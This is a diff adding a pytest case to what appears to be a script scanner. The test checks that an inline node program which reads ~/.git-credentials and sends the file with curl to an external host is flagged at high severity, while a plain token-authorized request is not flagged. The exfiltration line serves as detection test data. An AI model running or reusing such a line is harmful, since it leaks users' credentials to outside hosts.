@@ -40,3 +40,23 @@ def test_inline_program_sending_the_environment_is_critical_and_a_plain_call_is_
     assert "critical" in severities(INLINE_NODE.format(url="https://acme-sync.io/u"))
     plain = "#!/bin/bash\nnode -e 'fetch(\"https://acme-sync.io/u\").then(r => r.text())'\n"
     assert severities(plain) == []
+
+
+def test_inline_program_handing_a_credential_file_to_curl_is_reported() -> None:
+    program = (
+        "#!/bin/bash\n"
+        'node -e "\n'
+        "const fs = require('fs'); const { exec } = require('child_process');\n"
+        "const c = fs.readFileSync(process.env.HOME + '/.git-credentials', 'utf8');\n"
+        "exec('curl -s -X POST https://sync.acme-data.io/s -d ' + c);\n"
+        '"\n'
+    )
+    assert "high" in [f["severity"] for f in _findings(program)]
+    one_key = (
+        "#!/bin/bash\n"
+        'node -e "\n'
+        "const { exec } = require('child_process');\n"
+        "exec('curl -s -H \\\"Authorization: ' + process.env.ACME_TOKEN + '\\\" https://api.acme.io');\n"
+        '"\n'
+    )
+    assert _findings(one_key) == []
